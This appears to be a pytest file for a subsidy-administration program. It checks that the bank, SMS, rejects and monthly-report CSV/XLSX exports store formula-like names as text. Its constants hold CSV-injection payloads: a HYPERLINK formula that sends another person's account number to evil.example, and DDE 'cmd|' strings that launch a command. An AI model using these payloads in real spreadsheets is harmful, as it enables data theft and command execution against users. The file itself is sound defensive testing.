"""Spreadsheet formulas never reach the files the commands write (issue 14.2).

A name, an employer or an occupation typed at the counter or read from a registry
file may start like a formula (``=HYPERLINK(...)`` pointing at another person's
account, ``@SUM(...)*cmd|...``).  Every CSV and XLSX the program writes (the
bank's disbursement file, the SMS platform's outreach list, a registry rejects
file, the monthly report) carries it as text; read back, no cell is a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "models"))
from registry_fixtures import cert_number, make_id  # noqa: E402

from desktop.cli import run  # noqa: E402
from desktop.models import approval, publicity, review, risk  # noqa: E402
from desktop.models import store as store_module  # noqa: E402
from desktop.models.application import Intake  # noqa: E402
from desktop.models.cases import State, create_case, get_case  # noqa: E402
from desktop.models.clock import Clock  # noqa: E402
from desktop.models.intake import file_case, lookup_applicant  # noqa: E402
from desktop.models.payments import DISBURSEMENT_COLUMNS, RESULT_COLUMNS  # noqa: E402
from desktop.models.registry_files import CERTIFICATE_COLUMNS, INSURED_COLUMNS  # noqa: E402
from desktop.models.rules import Verifier  # noqa: E402
from desktop.models.staff import StaffUser  # noqa: E402
from desktop.models.store import Store, open_store  # noqa: E402

# Another person's account (E2) behind a friendly "查看" link: the attack of issue 14.2.
HYPERLINK = '=HYPERLINK("http://evil.example/"&E2,"查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def zhanchi(capsys: pytest.CaptureFixture[str], data_dir: Path, *args: str) -> tuple[int, str, str]:
    try:
        code = run(["--data-dir", str(data_dir), *args])
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def no_formula_cells(rows: list[list[str]], numeric: tuple[str, ...] = ()) -> None:
    """No cell starts like a formula, except a genuine number in a numeric column."""
    header = rows[0]
    for row in rows[1:]:
        for column, cell in zip(header, row, strict=True):
            if column in numeric and cell.lstrip("+-").isdigit():
                continue
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def xlsx_cells(path: Path) -> list[list[Any]]:
    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                assert not cell.value.startswith("="), (cell.coordinate, cell.value)
            elif cell.value is not None:  # an empty text cell reads back as None
                assert cell.data_type == "n", (cell.coordinate, cell.value, cell.data_type)
    return [[c.value for c in row] for row in sheet.iter_rows()]


# --- payment export / import ---------------------------------------------------------------------------


@pytest.fixture
def hostile_payee(store: Store, make_staff: Callable[..., StaffUser], make_intake: Callable[..., Intake],
                  clock: Clock) -> str:
    """One approved, unpaid case whose applicant (and so account holder) is named like a formula."""
    verifier = Verifier.load()
    team = {role: make_staff(role, role) for role in ("clerk", "reviewer", "approver")}
    clock.fixed = dt.datetime(2026, 11, 27, 10, tzinfo=clock.tz)
    intake = make_intake(
        applicant={"name": HYPERLINK, "id_number": make_id(1)},
        certificate={"number": cert_number(1), "kind": "skill_level", "level": 4, "occupation_code": "6-18-01-01",
                     "occupation_name": "车工", "issue_date": "2017-06-01"},
        payment={"kind": "bank", "account": "6222020200000000001", "bank_name": DDE, "holder_name": HYPERLINK},
    )
    record, _ = file_case(store, verifier, team["clerk"], intake, accept=True)
    review.start_review(store, verifier, team["reviewer"], record.id)
    for flag in risk.flags_of(store, record.id, open_only=True):
        risk.clear_flag(store, team["reviewer"], flag.id, "已核实")
    review.pass_review(store, verifier, team["reviewer"], record.id)
    batch = publicity.create_batch(store, team["reviewer"], [record.id])
    publicity.publish_batch(store, verifier, team["reviewer"], batch.id)
    clock.fixed = dt.datetime(2026, 12, 7, 10, tzinfo=clock.tz)
    publicity.close_batch(store, team["reviewer"], batch.id)
    approval.approve(store, team["approver"], [record.id])
    return record.id


def test_the_csv_sent_to_the_bank_carries_a_formula_name_as_text_and_its_result_still_imports(
    store: Store, hostile_payee: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """issue 14.2: `payment export --out F.csv` with a holder named =HYPERLINK(...): a text cell, amount a number;
    the bank's answer, built from that file, settles the batch (the reader takes the apostrophe back off)."""
    out = tmp_path / "发放.csv"
    code, _, err = zhanchi(capsys, store.data_dir, "payment", "export", "--out", str(out), "--user", "approver")
    assert code == 0, err
    rows = csv_rows(out)
    assert tuple(rows[0]) == DISBURSEMENT_COLUMNS
    line = dict(zip(DISBURSEMENT_COLUMNS, rows[1], strict=True))
    assert line["name"] == "'" + HYPERLINK and line["bank_name"] == "'" + DDE and line["amount_yuan"] == "1500"
    no_formula_cells(rows, numeric=("amount_yuan",))
    result = tmp_path / "result.csv"
    with result.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(RESULT_COLUMNS))
        writer.writeheader()
        writer.writerow({**line, "status": "paid", "reason": ""})
    code, stdout, err = zhanchi(capsys, store.data_dir, "payment", "import", str(result), "--user", "approver")
    assert code == 0, err
    assert json.loads(stdout)["paid"] == 1 and get_case(store, hostile_payee).state is State.paid


def test_the_xlsx_sent_to_the_bank_holds_strings_never_formulas(
    store: Store, hostile_payee: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """issue 14.2: `payment export --out F.xlsx`: the name is a string cell (data_type "s"), not a live
    HYPERLINK to another row's account; the amount stays an integer."""
    out = tmp_path / "发放.xlsx"
    code, _, err = zhanchi(capsys, store.data_dir, "payment", "export", "--out", str(out), "--user", "approver")
    assert code == 0, err
    header, line = xlsx_cells(out)
    assert tuple(header) == DISBURSEMENT_COLUMNS
    values = dict(zip(DISBURSEMENT_COLUMNS, line, strict=True))
    assert values["name"] == "'" + HYPERLINK and values["bank_name"] == "'" + DDE
    assert values["amount_yuan"] == 1500 and values["account"] == "6222020200000000001"


# --- registry files: outreach and --rejects --------------------------------------------------------------


def write_csv(path: Path, header: tuple[str, ...], rows: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_outreach_list_for_the_sms_platform_neutralises_registry_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """issue 14.2: registry rows with =, +, -, @ cells come out of `outreach` as text, level and amount numbers."""
    folder = tmp_path / "data"
    people = [[make_id(1), HYPERLINK, "", DDE, "440106", 40, "+86 20 8888 0000", "否"],
              [make_id(2), "张二", "", ARITHMETIC, "440106", 40, "13800138002", "否"]]
    certs = [[f"S00014400012317{4}{seq:06d}", make_id(seq), "skill_level", 4, "6-18-01-01", "车工", "2026-03-02",
              ""] for seq in (1, 2)]
    for kind, header, rows in (("insured", INSURED_COLUMNS, people), ("certificates", CERTIFICATE_COLUMNS, certs)):
        code, _, err = zhanchi(capsys, folder, "import", kind, str(write_csv(tmp_path / f"{kind}.csv", header, rows)))
        assert code == 0, err
    out = tmp_path / "sms.csv"
    code, _, err = zhanchi(capsys, folder, "outreach", "--out", str(out), "--date", "2026-11-27")
    assert code == 0, err
    rows = csv_rows(out)
    no_formula_cells(rows, numeric=("level", "amount_yuan"))
    body = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    first, second = body[make_id(1)], body[make_id(2)]
    assert first["name"] == "'" + HYPERLINK and first["phone"] == "'+86 20 8888 0000"
    assert first["employer_name"] == "'" + DDE and second["employer_name"] == "'" + ARITHMETIC
    assert first["message"].startswith("'" + HYPERLINK) and first["level"] == "4"


def test_a_rejects_file_neutralises_cells_keeps_numbers_and_imports_again_once_fixed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """issue 14.2: `import --rejects FIX.csv` echoes the bad rows as text (a negative month count stays a
    number); fixed, the file imports the original values, not the apostrophes."""
    folder, fix = tmp_path / "data", tmp_path / "待修正.csv"
    source = write_csv(tmp_path / "insured.csv", INSURED_COLUMNS,
                       [[make_id(1), HYPERLINK, "", DDE, "440106", -5, "+86 20 8888 0000", "否"]])
    code, _, err = zhanchi(capsys, folder, "import", "insured", str(source), "--rejects", str(fix))
    assert code == 2 and "累计缴费月数" in err
    rows = csv_rows(fix)
    no_formula_cells(rows, numeric=("contribution_months",))
    line = dict(zip(rows[0], rows[1], strict=True))
    assert (line["name"], line["employer_name"], line["phone"]) == ("'" + HYPERLINK, "'" + DDE, "'+86 20 8888 0000")
    assert line["contribution_months"] == "-5"  # a genuine number in a numeric column is kept
    rows[1][rows[0].index("contribution_months")] = "40"  # the clerk fixes the month count
    write_csv(fix, tuple(rows[0]), rows[1:])
    code, _, err = zhanchi(capsys, folder, "import", "insured", str(fix))
    assert code == 0, err
    with open_store(folder) as store:
        person = lookup_applicant(store, make_id(1)).person
    assert person is not None
    assert (person.name, person.employer_name, person.phone) == (HYPERLINK, DDE, "+86 20 8888 0000")


# --- monthly report -----------------------------------------------------------------------------------------


@pytest.fixture
def hostile_occupation(store: Store, clock: Clock, make_staff: Callable[..., StaffUser],
                       make_intake: Callable[..., Intake], monkeypatch: pytest.MonkeyPatch) -> None:
    """A case of November 2026 whose occupation name (typed at the counter) starts like a formula."""
    monkeypatch.setattr(store_module, "open_store",  # kwargs too: a module imported meanwhile keeps it
                        lambda data_dir, **options: open_store(data_dir, **{"clock": clock, **options}))
    make_staff("supervisor", "supervisor")
    intake = make_intake(
        application_date="2026-11-20",
        certificate={"number": cert_number(1), "kind": "skill_level", "level": 4, "occupation_code": "6-18-01-01",
                     "occupation_name": HYPERLINK, "issue_date": "2026-06-01"},
    )
    create_case(store, make_staff("clerk", "clerk"), intake,
                verdict={"eligible": True, "amount_yuan": 1500, "policy": "cn-2025", "checks": []},
                eligible=True, amount_yuan=1500, policy_id="cn-2025", state=State.accepted)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_monthly_report_carries_a_formula_occupation_as_text(
    store: Store, hostile_occupation: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    """issue 14.2: `report monthly --out F.csv|F.xlsx`: names are text cells, counts and amounts integers."""
    out = tmp_path / f"月报.{suffix}"
    code, _, err = zhanchi(capsys, store.data_dir, "report", "monthly", "--month", "2026-11", "--out", str(out),
                           "--user", "supervisor")
    assert code == 0, err
    if suffix == "csv":
        rows = csv_rows(out)
        no_formula_cells(rows, numeric=("applications", "application_amount_yuan", "payments",
                                        "payment_amount_yuan"))
        names = [r[3] for r in rows[1:]]
        amounts = [r[5] for r in rows[1:]]
    else:
        cells = xlsx_cells(out)
        names = [r[3] for r in cells[1:]]
        amounts = [r[5] for r in cells[1:]]
        assert all(type(a) is int for a in amounts)
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    assert str(amounts[-1]) == "1500"
